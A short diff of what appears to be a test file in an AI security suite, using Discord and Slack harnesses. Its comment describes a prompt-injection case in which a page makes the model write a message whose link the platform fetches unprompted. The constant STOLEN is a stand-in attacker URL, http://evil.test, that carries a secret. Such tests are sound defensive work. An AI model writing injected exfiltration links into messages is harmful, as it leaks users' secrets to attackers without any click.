@@ -4,7 +4,9 @@ import { openDiscordHarness } from "../../support/discord/harness.ts";
 import { openSlackHarness } from "../../support/slack/slack-harness.ts";
 import { type Attempt, SECRET } from "./attack.ts";
 
-/** What a platform would fetch by itself, of a message that a page has the model write: nobody need click on it. */
+/**
+ * Addresses that a platform would fetch by itself from a message that a page made the model write: no click is needed.
+ */
 
 const STOLEN = `http://evil.test/?d=${SECRET}`;
 
